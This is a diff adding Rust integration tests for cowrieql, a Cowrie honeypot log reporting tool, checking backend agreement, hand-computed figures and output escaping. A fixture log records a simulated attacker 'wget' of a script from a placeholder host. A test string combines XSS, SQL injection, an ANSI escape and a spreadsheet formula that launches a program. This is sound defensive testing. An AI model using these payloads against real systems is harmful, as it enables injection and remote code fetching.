@@ -1,0 +1,229 @@
+//! Reports end to end on both backends: every built-in gives the same JSON on SQLite and
+//! PostgreSQL over the real logs; a hand-made log gives hand-computed figures; hostile
+//! strings come out escaped in every format and change no query.
+
+mod common;
+
+use std::io::Write;
+
+use chrono::{TimeZone, Utc};
+use common::*;
+use cowrieql::report::builtin;
+use cowrieql::report::render::{render, Format};
+use cowrieql::report::run::run;
+use cowrieql::store::ingest::ingest;
+
+fn p(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
+    pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
+}
+
+/// Parameters that put each built-in over the real logs (2017-2020).
+fn params_for(name: &str) -> Vec<(String, String)> {
+    match name {
+        "daily" => p(&[("date", "2018-06-30")]),
+        "weekly" => p(&[("week", "2018-W26")]),
+        "monthly" => p(&[("month", "2018-06")]),
+        "session" => p(&[("session", "6161e0875959")]),
+        _ => p(&[("window", "last 4000d")]),
+    }
+}
+
+fn without_volatile(mut j: serde_json::Value) -> serde_json::Value {
+    if let Some(o) = j.as_object_mut() {
+        for k in ["@timestamp", "generated_at", "backend"] {
+            o.remove(k);
+        }
+    }
+    j
+}
+
+#[tokio::test]
+async fn every_builtin_report_gives_the_same_json_on_both_backends() {
+    let real = shared_real();
+    let dbs = both().await;
+    for db in &dbs {
+        ingest(&db.store, std::slice::from_ref(&real), &Default::default()).await.unwrap();
+    }
+    let now = Utc.with_ymd_and_hms(2026, 11, 28, 0, 0, 0).unwrap();
+    let names = builtin::builtin_names();
+    assert!(names.len() >= 11, "{names:?}");
+    for name in names {
+        let report = builtin::builtin(name).unwrap().unwrap();
+        let mut outputs = Vec::new();
+        for db in &dbs {
+            let result = run(&db.store, &report, &params_for(name), now)
+                .await
+                .unwrap_or_else(|e| panic!("{name} on {}: {e:#}", db.label));
+            let json = render(&result, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap();
+            let parsed: serde_json::Value =
+                serde_json::from_str(&json).unwrap_or_else(|e| panic!("{name}: invalid JSON ({e}):\n{json}"));
+            for f in [Format::Text, Format::Markdown, Format::Html, Format::Csv] {
+                render(&result, f, report.templates.get(f.name()).map(String::as_str), None)
+                    .unwrap_or_else(|e| panic!("{name} as {}: {e:#}", f.name()));
+            }
+            let rows: usize = result.results.iter().map(|q| q.rows.len()).sum();
+            assert!(rows > 0, "{name} on {}: no rows at all: the test proves little", db.label);
+            outputs.push(without_volatile(parsed));
+        }
+        assert_eq!(outputs[0], outputs[1], "{name}: SQLite and PostgreSQL disagree");
+    }
+}
+
+/// A small log whose figures are worked out by hand below.
+const HAND_LOG: &str = r#"{"eventid":"cowrie.session.connect","session":"a1","src_ip":"10.0.0.1","sensor":"s1","protocol":"ssh","timestamp":"2025-09-22T10:00:00.000000Z"}
+{"eventid":"cowrie.login.failed","session":"a1","src_ip":"10.0.0.1","sensor":"s1","username":"root","password":"123456","timestamp":"2025-09-22T10:00:01.000000Z"}
+{"eventid":"cowrie.login.success","session":"a1","src_ip":"10.0.0.1","sensor":"s1","username":"root","password":"admin","timestamp":"2025-09-22T10:00:02.000000Z"}
+{"eventid":"cowrie.command.input","session":"a1","src_ip":"10.0.0.1","sensor":"s1","input":"uname -a","timestamp":"2025-09-22T10:00:03.000000Z"}
+{"eventid":"cowrie.command.input","session":"a1","src_ip":"10.0.0.1","sensor":"s1","input":"wget http://x/a.sh","timestamp":"2025-09-22T10:00:04.000000Z"}
+{"eventid":"cowrie.session.file_download","session":"a1","src_ip":"10.0.0.1","sensor":"s1","url":"http://x/a.sh","shasum":"aa","outfile":"f","timestamp":"2025-09-22T10:00:05.000000Z"}
+{"eventid":"cowrie.command.input","session":"a1","src_ip":"10.0.0.1","sensor":"s1","input":"uname -a","timestamp":"2025-09-22T10:00:06.000000Z"}
+{"eventid":"cowrie.session.closed","session":"a1","src_ip":"10.0.0.1","sensor":"s1","duration":7.0,"timestamp":"2025-09-22T10:00:07.000000Z"}
+{"eventid":"cowrie.session.connect","session":"b2","src_ip":"10.0.0.2","sensor":"s2","protocol":"telnet","timestamp":"2025-09-22T23:59:59.000000Z"}
+{"eventid":"cowrie.login.failed","session":"b2","src_ip":"10.0.0.2","sensor":"s2","username":"admin","password":"admin","timestamp":"2025-09-23T00:00:01.000000Z"}
+{"eventid":"cowrie.command.input","session":"b2","src_ip":"10.0.0.2","sensor":"s2","input":"uname -a","timestamp":"2025-09-23T00:00:02.000000Z"}
+{"eventid":"cowrie.session.connect","session":"c3","src_ip":"10.0.0.1","sensor":"s1","protocol":"ssh","timestamp":"2025-09-21T23:00:00.000000Z"}
+{"eventid":"cowrie.session.file_download","session":"c3","src_ip":"10.0.0.1","sensor":"s1","url":"http://x/b.sh","shasum":"bb","outfile":"g","timestamp":"2025-09-22T00:30:00.000000Z"}
+"#;
+
+#[tokio::test]
+async fn daily_figures_match_a_hand_computed_log() {
+    let tmp = tempfile::tempdir().unwrap();
+    let f = tmp.path().join("hand.json");
+    std::fs::write(&f, HAND_LOG).unwrap();
+    for db in both().await {
+        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
+        let report = builtin::builtin("daily").unwrap().unwrap();
+        let now = Utc::now();
+        let result = run(&db.store, &report, &p(&[("date", "2025-09-22")]), now).await.unwrap();
+        let j: serde_json::Value = serde_json::from_str(
+            &render(&result, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap(),
+        )
+        .unwrap();
+        // Sessions starting on 2025-09-22: a1 (10:00) and b2 (23:59:59); c3 started the day before.
+        assert_eq!(j["report_type"], "daily", "{}", db.label);
+        assert_eq!(j["date"], "2025-09-22");
+        assert_eq!(j["sensor"], "aggregate");
+        let s = &j["sessions"];
+        assert_eq!(s["total"], 2, "{}: {s}", db.label);
+        // a1 ran 3 commands, b2 one (after midnight, but it is b2's session figure): (3 + 1) / 2.
+        assert_eq!(s["avg_commands"], 2.0, "{}: {s}", db.label);
+        assert_eq!((s["max_commands"].clone(), s["min_commands"].clone()), (3.into(), 1.into()), "{}", db.label);
+        assert_eq!(s["file_downloads"], 1, "{}: only a1's download belongs to a session of the day", db.label);
+        assert_eq!(s["login_attempts"], 3, "{}: a1 two, b2 one", db.label);
+        assert_eq!(s["unique_ips"], 2, "{}", db.label);
+        // Commands by event time on the 22nd: a1's three ("uname -a" twice); b2's is on the 23rd.
+        assert_eq!(
+            j["commands"]["top"],
+            serde_json::json!([{"command": "uname -a", "occurrences": 2}, {"command": "wget http://x/a.sh", "occurrences": 1}]),
+            "{}",
+            db.label
+        );
+        // Downloads by event time on the 22nd: a1's and c3's (00:30).
+        assert_eq!(
+            j["files"]["top"],
+            serde_json::json!([{"url": "http://x/a.sh", "occurrences": 1}, {"url": "http://x/b.sh", "occurrences": 1}]),
+            "{}",
+            db.label
+        );
+        // One sensor only.
+        let result = run(&db.store, &report, &p(&[("date", "2025-09-22"), ("sensor", "s2")]), now).await.unwrap();
+        let j: serde_json::Value = serde_json::from_str(
+            &render(&result, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap(),
+        )
+        .unwrap();
+        assert_eq!((j["sensor"].clone(), j["sessions"]["total"].clone()), ("s2".into(), 1.into()), "{}", db.label);
+        assert_eq!(j["commands"]["top"], serde_json::json!([]), "{}", db.label);
+    }
+}
+
+#[tokio::test]
+async fn activity_fills_quiet_hours_with_zero() {
+    let tmp = tempfile::tempdir().unwrap();
+    let f = tmp.path().join("hand.json");
+    std::fs::write(&f, HAND_LOG).unwrap();
+    for db in both().await {
+        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
+        let report = builtin::builtin("activity").unwrap().unwrap();
+        let result = run(&db.store, &report, &p(&[("window", "2025-09-22")]), Utc::now()).await.unwrap();
+        let per_hour = &result.results[0];
+        assert_eq!(per_hour.rows.len(), 24, "{}", db.label);
+        let events: Vec<String> = per_hour.rows.iter().map(|r| r[1].display()).collect();
+        // 00:30 one event (c3's download), 10:00-10:07 eight (a1), 23:59:59 one (b2's connect).
+        assert_eq!(events[0], "1");
+        assert_eq!(events[10], "8");
+        assert_eq!(events[23], "1");
+        assert_eq!(events.iter().filter(|e| *e == "0").count(), 21, "{}: {events:?}", db.label);
+        assert_eq!(result.results[2].rows.len(), 7, "{}: the weekday matrix has every day", db.label);
+    }
+}
+
+const HOSTILE: &str = "<script>alert(1)</script>|`x`*_[a](b)\u{1b}[31m=cmd|' /C calc'!A0'; DROP TABLE sessions; --";
+
+#[tokio::test]
+async fn hostile_strings_are_escaped_in_every_format_and_change_no_query() {
+    let tmp = tempfile::tempdir().unwrap();
+    let f = tmp.path().join("hostile.json");
+    let mut file = std::fs::File::create(&f).unwrap();
+    for (i, field) in ["username", "input"].iter().enumerate() {
+        let ev = if *field == "username" { "cowrie.login.success" } else { "cowrie.command.input" };
+        let line = serde_json::json!({"eventid": ev, "session": "h1", "sensor": "s", "src_ip": "1.1.1.1", *field: HOSTILE,
+            "password": HOSTILE, "timestamp": format!("2025-09-22T10:00:0{i}.000000Z")});
+        writeln!(file, "{line}").unwrap();
+    }
+    drop(file);
+    for db in both().await {
+        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
+        for name in ["credentials", "commands"] {
+            let report = builtin::builtin(name).unwrap().unwrap();
+            let result = run(&db.store, &report, &p(&[("window", "2025-09-22")]), Utc::now()).await.unwrap();
+            let html = render(&result, Format::Html, None, None).unwrap();
+            assert!(!html.contains("<script>"), "{name}: raw script in HTML");
+            assert!(html.contains("&lt;script&gt;"), "{name}: the string is shown, escaped");
+            assert!(!html.contains('\u{1b}'));
+            let md = render(&result, Format::Markdown, None, None).unwrap();
+            assert!(!md.contains("<script>") && md.contains("\\|") && md.contains("\\`x\\`"), "{name}: {md}");
+            let text = render(&result, Format::Text, None, None).unwrap();
+            assert!(!text.contains('\u{1b}') && text.contains("\\x1b[31m"), "{name}");
+            let json = render(&result, Format::Json, None, None).unwrap();
+            assert!(
+                json.contains(&serde_json::to_string(HOSTILE).unwrap()[1..20]),
+                "{name}: JSON keeps the exact text"
+            );
+            let csv_query = if name == "credentials" { "usernames" } else { "top_commands" };
+            let csv = render(&result, Format::Csv, None, Some(csv_query)).unwrap();
+            assert!(
+                csv.lines().nth(1).is_some_and(|l| l.starts_with("\"'<script>") || l.starts_with("<script>")),
+                "{name}: {csv}"
+            );
+        }
+        // A hostile parameter is bound, not spliced: no rows, and the tables are intact.
+        let report = builtin::builtin("daily").unwrap().unwrap();
+        let result =
+            run(&db.store, &report, &p(&[("date", "2025-09-22"), ("sensor", HOSTILE)]), Utc::now()).await.unwrap();
+        assert_eq!(result.results[0].rows[0][0].display(), "0", "{}", db.label);
+        assert_eq!(count(&db.store, "sessions").await, 1, "{}", db.label);
+        let csv = render(&result, Format::Csv, None, Some("sessions")).unwrap();
+        assert!(csv.starts_with("total,"), "{csv}");
+    }
+}
+
+#[test]
+fn csv_cells_that_look_like_formulas_are_defused() {
+    assert_eq!(cowrieql::report::escape::csv_cell("=1+1"), "'=1+1");
+}
+
+#[tokio::test]
+async fn unknown_parameters_and_bad_values_are_clear_errors() {
+    let db = fresh_sqlite().await;
+    let report = builtin::builtin("daily").unwrap().unwrap();
+    let err = run(&db.store, &report, &p(&[("dat", "2025-09-22")]), Utc::now()).await.unwrap_err().to_string();
+    assert!(err.contains("no parameter \"dat\"") && err.contains("date"), "{err}");
+    let err = run(&db.store, &report, &p(&[("date", "2025-W39")]), Utc::now()).await.unwrap_err().to_string();
+    assert!(err.contains("is not a day"), "{err}");
+    let err =
+        run(&db.store, &report, &p(&[("date", "2025-09-22"), ("top", "0")]), Utc::now()).await.unwrap_err().to_string();
+    assert!(err.contains("outside 1..1000"), "{err}");
+    let session = builtin::builtin("session").unwrap().unwrap();
+    let err = run(&db.store, &session, &[], Utc::now()).await.unwrap_err().to_string();
+    assert!(err.contains("--param session="), "{err}");
+}
